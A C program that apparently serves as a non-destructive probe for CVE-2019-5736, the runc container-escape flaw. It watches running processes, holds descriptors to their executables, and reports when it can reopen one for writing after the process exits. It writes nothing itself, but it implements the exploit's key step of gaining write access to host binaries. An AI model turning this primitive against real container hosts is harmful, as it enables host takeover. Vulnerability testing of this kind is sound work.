/* overwrite: until /tmp/enough is there, and half a minute at most, opens for writing every program that it sees running and that is not its image's own: "opened DEVICE:INODE"
   (CVE-2019-5736). Nothing is written: whoever holds that descriptor owns whoever runs the program next. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MOST 64
static struct { dev_t device; ino_t inode; int held, done; } seen[MOST];
static int count;

static void hold(const char *name) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", name);
  int held = open(path, O_PATH | O_CLOEXEC);
  struct stat status;
  if (held < 0) return;
  int known = fstat(held, &status) != 0;
  for (int at = 0; at < count && !known; at++) known = seen[at].device == status.st_dev && seen[at].inode == status.st_ino;
  if (known || count == MOST) close(held);
  else {
    seen[count].device = status.st_dev, seen[count].inode = status.st_ino, seen[count++].held = held;
    printf("saw %lu:%lu\n", (unsigned long)status.st_dev, (unsigned long)status.st_ino);
  }
}

/* A program that runs cannot be written to; once it has ended, the descriptor still leads there. */
static void reopen(int at) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", seen[at].held);
  int file = open(path, O_WRONLY | O_CLOEXEC);
  if (file < 0 && errno == ETXTBSY) return;
  if (file >= 0) printf("opened %lu:%lu\n", (unsigned long)seen[at].device, (unsigned long)seen[at].inode);
  if (file >= 0) close(file);
  seen[at].done = 1;
}

static void look(void) {
  DIR *processes = opendir("/proc");
  for (struct dirent *one; processes != NULL && (one = readdir(processes)) != NULL;)
    if (one->d_name[0] >= '0' && one->d_name[0] <= '9') hold(one->d_name);
  if (processes != NULL) closedir(processes);
  for (int at = 0; at < count; at++)
    if (!seen[at].done) reopen(at);
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  close(open("/tmp/watching", O_WRONLY | O_CREAT, 0600));
  for (time_t end = time(NULL) + 30; time(NULL) < end && access("/tmp/enough", F_OK) != 0;) look();
  look();
  return 0;
}
